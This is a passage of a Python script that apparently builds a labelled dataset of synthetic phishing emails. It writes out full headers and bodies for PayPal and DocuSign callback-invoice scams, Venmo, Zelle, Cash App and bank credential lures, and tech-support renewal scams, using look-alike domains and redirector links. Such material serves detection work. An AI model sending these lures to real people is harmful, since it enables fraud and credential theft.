<tr><td style="padding:32px 40px;font-family:'Helvetica Neue',Arial,sans-serif;font-size:12px;color:#545d68;"><a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0;">Help &amp; Contact</a> | <a href="https://www.paypal.com/us/security" style="color:#0070e0;">Security</a> | <a href="https://www.paypal.com/us/home" style="color:#0070e0;">Apps</a><br><br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">Learn to identify phishing</a><br><br>Please don't reply to this email. To get in touch with us, click <a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0;">Help &amp; Contact</a>.<br><br>&copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br><br>PayPal RT000238:en_US(en-US):1.5.0:{hexs("pp-rt", 13)}</td></tr>
</table></td></tr></table>
<img src="https://t.paypal.com/ts?v=1.0.0&amp;e=Invoice_Pay_Notification&amp;tracking_id={hexs('pp-trk', 13)}" width="1" height="1" alt="" border="0"></body></html>
"""
    bnd = "----=_Part_" + num("pp-b", 7) + "_" + num("pp-b2", 9) + "." + str(ep(t)) + "022"
    head = f"""{dkim("paypal.com", "pp-dkim1", "Content-Type:MIME-Version:Subject:To:From:Date:Message-ID", "ppi", t, extra="i=@paypal.com; q=dns/txt")}
Received: from ccg01mail04.ccg01.slc.paypalinc.com (ccg01mail04.ccg01.slc.paypalinc.com [10.140.{num("pp-i1", 2)}.{num("pp-i2", 2)}])
\tby mx2.slc.paypal.com (Postfix) with ESMTP id {hexs("pp-pf", 11, True)}
\tfor <{who[1]}>; {fmt(t - sec(1), "America/Los_Angeles", comment="PDT")}
Date: {fmt(t - sec(2), "America/Los_Angeles")}
Message-ID: <{hexs("pp-m1", 13)}.{hexs("pp-m2", 8)}@ccg01mail04>
From: "service@paypal.com" <service@paypal.com>
Reply-To: "Geek Squad Support" <gs.billing.support@outlook.com>
To: Harold Greer <{who[1]}>
Subject: Invoice from Geek Squad Support (0073)
MIME-Version: 1.0
X-MaxCode-Template: PPX000661
X-Email-Type-Id: PPX000661
X-PP-REQUESTED-TIME: {ep(t) - 3}{num("pp-rq", 3)}
X-PP-Email-transmission-Id: {uid("pp-tx")}
PP-Correlation-Id: {hexs("pp-corr", 13)}
X-XPT-XSL-Name: email_pimp/default/en_US/invoice/InvoicePayNotification.xsl"""
    add("phish-paypal-invoice-geeksquad", "phishing",
        "Genuine PayPal invoice (service@paypal.com, SPF/DKIM/DMARC pass) created by a scammer as 'Geek Squad Support' for $499.99, whose seller note pushes a refund phone number: a callback scam riding on PayPal's own infrastructure.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))



def vps_head(dom: str, host: str, seed: str, t: datetime, rcpt: str, frm: str, subj: str, *, selector: str | None = "default",
             tz: str = "UTC", mid: str | None = None, xmailer: str | None = None, client: str | None = None, extra: str = "",
             to_line: str | None = None) -> str:
    """Headers of a message submitted on an attacker's own Postfix VPS (optionally DKIM-signed)."""
    lines = []
    if selector:
        lines.append(dkim(dom, selector, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", seed, t))
    if client:
        lines.append(f"Received: from [{client}] (unknown [{client}])\n\t(Authenticated sender: {frm.split('<')[-1].rstrip('>')})\n\tby {host} (Postfix) with ESMTPSA id {tok(seed + 'pfid', 11)}\n\tfor <{rcpt}>; {fmt(t - sec(1), comment='UTC')}")
    else:
        lines.append(f"Received: from localhost (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTP id {hexs(seed + 'pfid', 10, True)}\n\tfor <{rcpt}>; {fmt(t - sec(1), comment='UTC')}")
    lines.append(f"Date: {fmt(t - sec(2), tz)}")
    lines.append(f"From: {frm}")
    lines.append(f"To: {to_line or rcpt}")
    lines.append(f"Subject: {subj}")
    lines.append(f"Message-ID: {mid or '<' + tok(seed + 'mid', 40) + '@' + dom + '>'}")
    if xmailer:
        lines.append(f"X-Mailer: {xmailer}")
    if extra:
        lines.append(extra.strip("\n"))
    lines.append("MIME-Version: 1.0")
    return "\n".join(lines)


# ---- 15. Venmo "pending payment" from a .live look-alike ----
def _a_venmo():
    who = JAYLEN
    t = T("2025-09-04 22:31:15")
    dom = "venmo-payments-center.live"
    link = f"https://{dom}/claim?txn=4219-{num('vn-t', 8)}"
    src = Src("45.61.136.204", f"mail.{dom}", f"mail.{dom}", f"notifications@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "none", hfrom=dom)
    plain = f"""Venmo

You have a pending payment

Ashley R. sent you $300.00
"for the concert tickets 🎟"

To receive this payment, confirm your account within 24 hours. Unclaimed
payments are returned to the sender.

Accept payment: {link}

Venmo is a service of PayPal, Inc.
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f4f5f7;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;">
<table align="center" width="480" cellpadding="0" cellspacing="0" style="background:#fff;margin-top:20px;border-radius:8px;">
<tr><td style="padding:22px 28px;font-size:28px;font-weight:bold;color:#008cff;font-style:italic;">venmo</td></tr>
<tr><td style="padding:0 28px;font-size:20px;color:#2f3033;">You have a pending payment</td></tr>
<tr><td style="padding:18px 28px;font-size:15px;color:#2f3033;line-height:22px;"><b>Ashley R.</b> sent you <b style="color:#148572;">$300.00</b><br><span style="color:#6b6e76;">&quot;for the concert tickets &#127903;&quot;</span></td></tr>
<tr><td style="padding:0 28px 10px 28px;font-size:14px;color:#6b6e76;line-height:20px;">To receive this payment, confirm your account within 24 hours. Unclaimed payments are returned to the sender.</td></tr>
<tr><td style="padding:10px 28px 28px 28px;"><a href="{link}" style="display:block;text-align:center;background:#008cff;color:#fff;padding:13px 0;border-radius:24px;text-decoration:none;font-weight:bold;">Accept Payment</a></td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#9a9da4;border-top:1px solid #eee;">Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. 2211 North First Street, San Jose, CA 95131</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "vn", t, who[1], f"Venmo <notifications@{dom}>", "Ashley R. sent you $300.00 - action needed",
                    tz="America/New_York")
    add("phish-venmo-pending-payment", "phishing",
        "Venmo 'Ashley R. sent you $300.00, confirm to accept' lure from the look-alike domain venmo-payments-center.live leading to a login/card harvesting page.",
        "icloud", who[1], t, src, auth, head, alt(plain, html, "----=_NextPart_" + hexs("vn-b", 24)))


# ---- 16. Zelle "upgrade to business account" Marketplace scam from an AOL account ----
def _a_zelle():
    who = PATRICIA
    t = T("2025-07-26 19:44:09")
    snd = "zelle.paymentcenter@aol.com"
    src, yblock, mid = yahoo_out(t, "zl", "aol.com")
    src.mailfrom = snd
    auth = Auth("pass", [("aol.com", "a2048", "pass")], "pass", "reject", "aol.com")
    plain = """Zelle(R) Payment Notification

Dear Patricia Kowalski,

You have received a payment of $450.00 USD from Brandon Miller
(brandonmiller.0816@gmail.com) for: Sectional sofa - Marketplace.

Status: PENDING

The payment could not be released to your bank because your Zelle profile is
a personal account, and payments for goods sold online require a business
account. Your account has been upgraded automatically. The upgrade fee of
$300.00 must be covered by the buyer.

We have notified the buyer to send the additional $300.00. Once we receive
it, a total of $750.00 ($450.00 + the $300.00 refunded upgrade fee) will be
deposited to your account within 30 minutes.

Please reply to this email with a screenshot of the buyer's confirmation once
the buyer has sent the additional payment.

Thank you for using Zelle(R).
Zelle Payment Services
Early Warning Services, LLC
"""
    html = """<div style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false"><div style="background:#6d1ed4;color:#fff;padding:14px 18px;font-size:24px;font-weight:bold;">Zelle<sup>&reg;</sup></div><div><br></div><div><b>Payment Notification</b></div><div><br></div><div>Dear Patricia Kowalski,</div><div><br></div><div>You have received a payment of <b>$450.00 USD</b> from Brandon Miller (brandonmiller.0816@gmail.com) for: Sectional sofa - Marketplace.</div><div><br></div><div>Status: <span style="color:#d9822b;font-weight:bold;">PENDING</span></div><div><br></div><div>The payment could not be released to your bank because your Zelle profile is a personal account, and payments for goods sold online require a business account. Your account has been upgraded automatically. The upgrade fee of $300.00 must be covered by the buyer.</div><div><br></div><div>We have notified the buyer to send the additional $300.00. Once we receive it, a total of <b>$750.00</b> ($450.00 + the $300.00 refunded upgrade fee) will be deposited to your account within 30 minutes.</div><div><br></div><div>Please reply to this email with a screenshot of the buyer&#39;s confirmation once the buyer has sent the additional payment.</div><div><br></div><div>Thank you for using Zelle&reg;.<br>Zelle Payment Services<br>Early Warning Services, LLC</div></div></div>
"""
    bnd = "----=_Part_" + num("zl-b", 7) + "_" + num("zl-b2", 9) + "." + str(ep(t) - 2) + "981"
    head = f"""{yblock}
Date: {fmt(t - sec(2))}
From: Zelle Payment Service <{snd}>
To: "{who[1]}" <{who[1]}>
Message-ID: {mid}
Subject: Zelle(R) payment of $450.00 is pending
MIME-Version: 1.0
References: {mid}
X-Mailer: WebService/1.1.24187 AolMailNorrin"""
    add("phish-zelle-business-upgrade", "phishing",
        "Zelle 'payment pending, your account must be upgraded to business, buyer must send $300 more' overpayment scam against a Marketplace seller, written from a free AOL account and asking for a reply.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 17. Cash App settlement payout look-alike ----
def _a_cashapp():
    who = WALT
    t = T("2025-01-14 18:26:40")
    dom = "cashapp-settlementclaims.com"
    link = f"https://{dom}/claim?cid=CA-7719-4421&amp;src=em"
    src = Src("146.70.87.12", f"mail.{dom}", f"mail.{dom}", f"claims@{dom}")
    auth = Auth("pass", [(dom, "mail", "pass")], "pass", "none", dom)
    plain = f"""Block, Inc. / Cash App Data Security Settlement

Claimant ID: CA-7719-4421

Dear Walter Pruitt,

Our records show that you are eligible for a cash payment of up to $2,500.00
under the Cash App settlement. The deadline to submit or confirm a claim is
January 16, 2025.

To receive your payment, confirm your identity and choose how you want to be
paid (Cash App, direct deposit or check):

{link.replace('&amp;', '&')}

Settlement Administrator
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Georgia,'Times New Roman',serif;color:#222;background:#fff;">
<div style="max-width:620px;margin:0 auto;border-top:6px solid #00d632;padding:20px;">
<p style="font-size:13px;color:#666;font-family:Arial,sans-serif;">Block, Inc. / Cash App Data Security Settlement &middot; Claimant ID: <b>CA-7719-4421</b></p>
<p>Dear Walter Pruitt,</p>
<p>Our records show that you are eligible for a cash payment of up to <b>$2,500.00</b> under the Cash App settlement. The deadline to submit or confirm a claim is <b>January 16, 2025</b>.</p>
<p>To receive your payment, confirm your identity and choose how you want to be paid (Cash App, direct deposit or check).</p>
<p style="text-align:center;"><a href="{link}" style="background:#00d632;color:#fff;padding:12px 26px;text-decoration:none;font-family:Arial,sans-serif;font-weight:bold;border-radius:4px;">Confirm My Claim</a></p>
<p style="font-size:12px;color:#777;font-family:Arial,sans-serif;">Settlement Administrator. This notice was sent to you because you were identified as a Settlement Class Member.</p>
</div></body></html>
"""
    head = vps_head(dom, f"mail.{dom}", "ca", t, who[1], f"Cash App Settlement <claims@{dom}>",
                    "Your Cash App settlement payment is ready to claim", selector="mail", tz="America/New_York")
    add("phish-cashapp-settlement", "phishing",
        "Cash App class-action settlement 'claim your $2,500 payment before January 16' lure exploiting the real settlement deadline, from the look-alike domain cashapp-settlementclaims.com, harvesting identity and bank details.",
        "att", who[1], t, src, auth, head, alt(plain, html, "=_alt_" + hexs("ca-b", 20)))


# ---- 18. Geek Squad renewal with a PDF invoice, from a free Outlook.com account ----
def _a_geeksquad():
    who = BEVERLY
    t = T("2025-06-17 13:30:55")
    snd = "gs.renewaldept@outlook.com"
    src, oblock, mid = outlook_out(t, "gs")
    src.mailfrom = snd
    auth = Auth("pass", [("outlook.com", "selector1", "pass")], "pass", "none", "outlook.com")
    pdf = files.pdf([
        "GEEK SQUAD - Best Buy Protection Services",
        "INVOICE / ORDER CONFIRMATION",
        "",
        "Invoice No: GS-88214037            Date: 06/17/2025",
        "Customer ID: GSQ-551902-US",
        "",
        "Description                                Qty     Amount",
        "Geek Squad Total Protection (3 Years)      1       $389.99",
        "Device coverage: up to 5 devices",
        "Sales tax                                          $0.00",
        "TOTAL CHARGED                                      $389.99",
        "",
        "Payment method: Auto-debit",
        "",
        "The amount will appear on your statement within 24-48 hours.",
        "If you did not authorize this purchase or wish to cancel,",
        "please call our billing desk: +1 (808) 445-2917",
        "",
        "Thank you for choosing Geek Squad.",
    ], title="Invoice GS-88214037")
    plain = """Dear Customer,

Thank you for renewing your Geek Squad Total Protection plan. Your order has
been processed and the amount will be debited from your account within 24
hours. Please find the invoice attached for your records.

If you have any questions about this charge, the contact details are in the
invoice.

Regards,
Geek Squad Billing Team
"""
    html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Dear Customer,</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Thank you for renewing your Geek Squad Total Protection plan. Your order has been processed and the amount will be debited from your account within 24 hours. Please find the invoice attached for your records.</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
If you have any questions about this charge, the contact details are in the invoice.</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Regards,<br>
Geek Squad Billing Team</div>
</body>
</html>
"""
    pod = mid[1:17]
    mix = f"_004_{mid[1:-1].split('@')[0]}{pod.lower()}namp_"
    altb = f"_000_{mid[1:-1].split('@')[0]}{pod.lower()}namp_"
    body = Multi("mixed", mix, [
        Multi("alternative", altb, [text(plain, charset="iso-8859-1"), text(html, "html", charset="iso-8859-1")]),
        attachment("application/pdf", "Invoice_GS88214037.pdf", pdf),
    ])
    head = f"""{oblock}
From: Geek Squad Billing <{snd}>
Subject: Order Confirmation #GS-88214037
Thread-Topic: Order Confirmation #GS-88214037
Thread-Index: AQHb32{b64("gs-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
msip_labels:
x-ms-exchange-messagesentrepresentingtype: 1
x-tmn: [{b64("gs-tmn", 40)}]
x-ms-publictraffictype: Email
To: Undisclosed recipients:;
MIME-Version: 1.0"""
    add("phish-geeksquad-renewal-pdf", "phishing",
        "Geek Squad 'Total Protection renewed, $389.99' order confirmation from a free Outlook.com account (Bcc, undisclosed recipients) with a real PDF invoice whose only action is a refund phone number (callback scam).",
        "att", who[1], t, src, auth, head, body)


# ---- 19. Norton plain-text renewal from a Gmail account ----
def _a_norton():
    who = NINA
    t = T("2025-09-30 11:09:33")
    snd = "nlk.billingdesk7731@gmail.com"
    src, gblock = gmail_out(t, "nl", who[1].split("@")[1])
    src.mailfrom = snd
    auth = Auth("pass", [("gmail.com", "20230601", "pass")], "pass", "none", "gmail.com")
    plain = """Hello Nina,

This is to confirm that your subscription for Norton 360 Deluxe has been
renewed successfully and will be charged today.

Transaction ID: NLK-4471958-US
Product: Norton 360 Deluxe - 5 devices (2 years)
Amount: $349.99
Payment mode: Auto-debit

The charges will reflect in your account within 24 hours. If you wish to
cancel the subscription and claim a refund, please reach us on
+1 (877) 381-6620.

Thanks & Regards
Billing Department
"""
    head = f"""{gblock}
MIME-Version: 1.0
From: Billing Department <{snd}>
Date: {fmt(t - sec(2), "America/New_York")}
Message-ID: {gmail_msgid("nl")}
Subject: Re: Subscription Renewal Confirmation - ID: NLK-4471958-US
To: {who[1]}"""
    body = Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"')
    add("phish-norton-renewal-plain", "phishing",
        "Short plain-text Norton 360 'subscription renewed, $349.99' notice from a free Gmail account with a fake 'Re:' and a refund phone number: a callback scam with no link or attachment.",
        "outlook", who[1], t, src, auth, head, body)


# ---- 20. Genuine DocuSign envelope abused for a McAfee invoice callback ----
def _a_docusign():
    who = JOAN
    t = T("2025-03-25 16:58:21")
    src = Src("64.207.219.135", "mail135.docusign.net", "mail135.docusign.net", "dse_NA3@docusign.net")
    auth = Auth("pass", [("docusign.net", "s1", "pass")], "pass", "reject", "docusign.net")
    env = uid("ds-env", True)
    link = f"https://na3.docusign.net/Signing/EmailStart.aspx?a={uid('ds-a')}&amp;etti=24&amp;acct={uid('ds-acct')}&amp;er={uid('ds-er')}"
    msg_text = ("Thank you for your purchase of McAfee Total Protection (10 devices). Your subscription has been auto-renewed "
                "for $389.99 and will be charged within 24 hours. To cancel and request a refund, call McAfee Billing at "
                "+1 (855) 318-4402.")
    plain = f"""McAfee Billing sent you a document to review and sign.

REVIEW DOCUMENT
{link.replace('&amp;', '&')}

McAfee Billing
mcafee.billing.center@gmail.com

{msg_text}

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
{hexs('ds-code', 32, True)}3

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="initial-scale=1.0"></head>
<body style="padding:2px;background-color:#ffffff;">
<table border="0" cellspacing="0" cellpadding="0" width="100%" role="presentation" style="background-color:#eaeaea;max-width:640px;margin:0 auto;">
<tr><td style="padding:24px 24px 0 24px;"><img src="https://na3.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" style="border:none;width:116px;"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table border="0" cellspacing="0" cellpadding="0" width="100%" style="background-color:#1e4ca1;color:#ffffff;">
<tr><td style="padding:28px 36px;text-align:center;">
<img src="https://na3.docusign.net/member/Images/email/docInvite-white.png" style="width:75px;height:75px;" alt="">
<p style="font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#ffffff;padding-top:24px;">McAfee Billing sent you a document to review and sign.</p>
<table border="0" cellspacing="0" cellpadding="0" align="center"><tr><td align="center" style="font-size:15px;font-weight:bold;font-family:Helvetica,Arial,sans-serif;text-align:center;background-color:#ffc423;border-radius:2px;"><a href="{link}" style="font-size:15px;color:#333333;text-decoration:none;display:inline-block;padding:0 24px;line-height:44px;"><span style="padding:0 24px;">REVIEW DOCUMENT</span></a></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#333333;">
<p style="padding-top:24px;"><b>McAfee Billing</b><br><a href="mailto:mcafee.billing.center@gmail.com" style="color:#2463d1;">mcafee.billing.center@gmail.com</a></p>
<p>{msg_text}</p></td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;">
<p><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>
<p><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{hexs('ds-code', 32, True)}3</p>
<p><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.</p>
<p><b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.</p>
<p><b>Stop receiving this email</b><br><a href="https://protect.docusign.net/report-abuse?e=AUtomjpF{b64('ds-ab', 80)}" style="color:#2463d1;">Report this email</a> or read more about <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463d1;">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463d1;">Managing notifications</a>.</p>
<p>This message was sent to you by McAfee Billing who is using the Docusign Electronic Signature Service.</p></td></tr>
</table></body></html>
"""
    bnd = "----=_Part_" + num("ds-b", 6) + "_" + num("ds-b2", 9) + "." + str(ep(t)) + "311"
    head = f"""{dkim("docusign.net", "s1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To", "dsn", t)}
Received: from docusign.net (10.128.{num("ds-i", 2)}.{num("ds-i2", 2)}) by mail135.docusign.net (PowerMTA(TM) v5.5r7) id hq{tok("ds-pm", 8, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Los_Angeles")}
Reply-To: "McAfee Billing" <mcafee.billing.center@gmail.com>
From: "McAfee Billing via Docusign" <dse_NA3@docusign.net>
To: "Joan Greer" <{who[1]}>
Message-ID: <{uid("ds-mid")}@docusign.net>
Date: {fmt(t - sec(2), "America/Los_Angeles")}
Subject: Complete with Docusign: McAfee_Total_Protection_Invoice_2025.pdf
MIME-Version: 1.0
X-DocuSign-EnvelopeId: {env}
X-Feedback-ID: envelope_activation:{num("ds-fb", 6)}:docusign"""
    add("phish-docusign-mcafee-invoice", "phishing",
        "Genuine Docusign envelope (dse_NA3@docusign.net, all authentication passes) sent by a scammer account named 'McAfee Billing': the envelope message itself carries a $389.99 auto-renewal and a refund phone number (callback).",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 21. Chase hold notice routed through Google AMP ----
def _a_chase():
    who = FRANK
    t = T("2025-04-23 11:40:18")
    dom = "mychase-alerts.net"
    link = "https://www.google.com/amp/s/chase-verify.mrxq7.site/logon/?acct=3309"
    src = Src("194.169.175.40", f"smtp.{dom}", f"smtp.{dom}", f"alerts@{dom}")
    auth = Auth("pass", [(dom, "k1", "pass")], "none", hfrom=dom)
    plain = f"""CHASE

We've placed a temporary hold on your account

Dear Customer,

We noticed activity on your Chase account that doesn't match your usual
pattern, so we have placed a temporary hold on online access and debit card
transactions.

To remove the hold, sign in and confirm your recent activity:
{link}

If you do not confirm within 48 hours, your account will remain restricted
until you visit a branch.

Chase Fraud Prevention
JPMorgan Chase Bank, N.A. Member FDIC
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f1f1f1;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;">
<tr><td style="background:#117aca;padding:16px 24px;color:#fff;font-size:22px;font-weight:bold;letter-spacing:3px;">CHASE &#9635;</td></tr>
<tr><td style="padding:24px;font-size:20px;color:#414042;">We've placed a temporary hold on your account</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#414042;line-height:21px;">Dear Customer,<br><br>We noticed activity on your Chase account that doesn't match your usual pattern, so we have placed a temporary hold on online access and debit card transactions.<br><br>To remove the hold, sign in and confirm your recent activity.</td></tr>
<tr><td style="padding:20px 24px;"><a href="{link}" style="background:#117aca;color:#fff;padding:11px 24px;text-decoration:none;border-radius:4px;font-size:15px;">Confirm activity</a></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:13px;color:#717171;">If you do not confirm within 48 hours, your account will remain restricted until you visit a branch.</td></tr>
<tr><td style="padding:16px 24px;background:#f7f7f7;font-size:11px;color:#717171;">JPMorgan Chase Bank, N.A. Member FDIC. &copy;2025 JPMorgan Chase &amp; Co.</td></tr>
</table></body></html>
"""
    head = vps_head(dom, f"smtp.{dom}", "ch", t, who[1], f"Chase <alerts@{dom}>",
                    "We've placed a temporary hold on your account", selector="k1", tz="America/New_York")
    add("phish-chase-hold-google-amp", "phishing",
        "Chase 'temporary hold on your account' alert from the look-alike domain mychase-alerts.net whose link goes through Google's AMP redirector (google.com/amp/s/) to a .site login clone.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, "=_" + hexs("ch-b", 28)))


# ---- 22. Bank of America sign-in alert through an abused Brevo account, page on Cloudflare Workers ----
def _a_bofa():
    who = ROSEMARY
    t = T("2025-11-05 14:12:57")
    dom = "boa-onlinesecure.com"
    link = f"https://bofa-signin-verify.xk29.workers.dev/?session={tok('bo-s', 24)}"
    mf = f"{tok('bo-mf', 12, string.ascii_lowercase + string.digits)}@a{num('bo-n', 6)}.sendibt3.com"
    src = Src("77.32.148.19", "mail148-19.sendibt3.com", "mail148-19.sendibt3.com", mf)
    auth = Auth("pass", [(dom, "mail", "pass")], "pass", "none", dom)
    plain = f"""Bank of America

New sign-in to Online Banking

A sign-in to your account was detected from a new device:
  Device: Chrome on Windows
  Location: Guadalajara, Jalisco, MX
  Time: Nov 5, 2025 at 7:58 AM CT

If this was you, no action is needed. If you don't recognize this activity,
secure your account now:
{link}

Bank of America, N.A. Member FDIC
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:'Connections',Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:18px 24px;border-bottom:4px solid #e31837;font-size:20px;color:#012169;font-weight:bold;">BANK OF AMERICA</td></tr>
<tr><td style="padding:24px;font-size:18px;color:#012169;">New sign-in to Online Banking</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#333;line-height:21px;">A sign-in to your account was detected from a new device:<br><br>
<b>Device:</b> Chrome on Windows<br><b>Location:</b> Guadalajara, Jalisco, MX<br><b>Time:</b> Nov 5, 2025 at 7:58 AM CT<br><br>
If this was you, no action is needed. If you don't recognize this activity, secure your account now.</td></tr>
<tr><td style="padding:22px 24px;"><a href="{link}" style="background:#0052c2;color:#fff;padding:11px 26px;text-decoration:none;border-radius:3px;">Review activity</a></td></tr>
<tr><td style="padding:16px 24px;background:#f5f5f5;font-size:11px;color:#666;">Bank of America, N.A. Member FDIC. Equal Housing Lender. &copy; 2025 Bank of America Corporation.</td></tr>
</table>
<img width="1" height="1" alt="" src="https://{num('bo-t', 6)}.r.bh.d.sendibt3.com/tr/op/{b64('bo-op', 60).replace('/', '_').replace('+', '-')}"></body></html>
"""
    head = f"""{dkim(dom, "mail", "Content-Type:MIME-Version:Subject:From:To:Date:Message-Id:List-Unsubscribe", "bo", t)}
Received: from smtp-relay.brevo.com (unknown [10.20.{num("bo-i", 2)}.{num("bo-i2", 2)}])
\tby mail148-19.sendibt3.com (Postfix) with ESMTPA id 4d1P{tok("bo-pf", 7)}
\tfor <{who[1]}>; {fmt(t - sec(1), comment="UTC")}
MIME-Version: 1.0
Subject: New sign-in to Online Banking
From: Bank of America <alerts@{dom}>
To: <{who[1]}>
Date: {fmt(t - sec(2))}
Message-Id: <{num("bo-mid", 12)}.{hexs("bo-mid2", 16)}@smtp-relay.mailin.fr>
List-Unsubscribe: <https://{num('bo-t', 6)}.r.bh.d.sendibt3.com/tr/un/{b64('bo-un', 50).replace('/', '_').replace('+', '-')}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-Mailer: Sendinblue
X-sib-id: {b64("bo-sib", 60).replace('/', '_').replace('+', '-')}
X-CSA-Complaints: csa-complaints@eco.de
Feedback-ID: {num("bo-fb", 7)}:{num("bo-fb2", 4)}:brevo"""
    bnd = hexs("bo-b", 32)
    add("phish-bofa-signin-workers", "phishing",
        "Bank of America 'new sign-in from Guadalajara' alert sent through an abused Brevo (Sendinblue) account on boa-onlinesecure.com, linking to a credential page on Cloudflare Workers (workers.dev).",
        "outlook", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 23. Wells Fargo card restriction from a PHP mailer on a compromised WordPress site ----
def _a_wellsfargo():
    who = WALT
    t = T("2025-03-27 10:15:02")
    link = "https://lakeviewchiro.com/wp-content/uploads/2025/03/wf/auth/signon.php?id=" + hexs("wf-id", 16)
    mf = "arcadiah@gator4123.hostgator.com"
    src = Src("192.185.4.117", "gator4123.hostgator.com", "gator4123.hostgator.com", mf, "TLS1_2")
    auth = Auth("none", [("arcadiahomecare.net", "default", "pass")], "none", hfrom="arcadiahomecare.net")
    plain = f"""Wells Fargo Online

Your Wells Fargo debit card has been temporarily restricted

We detected unusual activity on your debit card ending in 7712 and have
temporarily restricted it to protect your account.

To restore full access, please sign on and verify your information:
{link}

Failure to verify within 24 hours may result in the card being cancelled.

Wells Fargo Online Security
"""
    html = f"""<html><body style="font-family:Verdana,Arial,sans-serif;font-size:13px;color:#333;">
<div style="background:#d71e28;padding:12px 18px;"><span style="color:#ffcd41;font-weight:bold;font-size:20px;">WELLS FARGO</span></div>
<div style="padding:18px;">
<p style="font-size:16px;font-weight:bold;">Your debit card has been temporarily restricted</p>
<p>We detected unusual activity on your debit card ending in <b>7712</b> and have temporarily restricted it to protect your account.</p>
<p>To restore full access, please <a href="{link}">sign on and verify your information</a>.</p>
<p>Failure to verify within 24 hours may result in the card being cancelled.</p>
<p>Wells Fargo Online Security</p>
</div></body></html>
"""
    head = f"""{dkim("arcadiahomecare.net", "default", "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date", "wf", t)}
Received: from arcadiah by gator4123.hostgator.com with local (Exim 4.98)
\t(envelope-from <{mf}>)
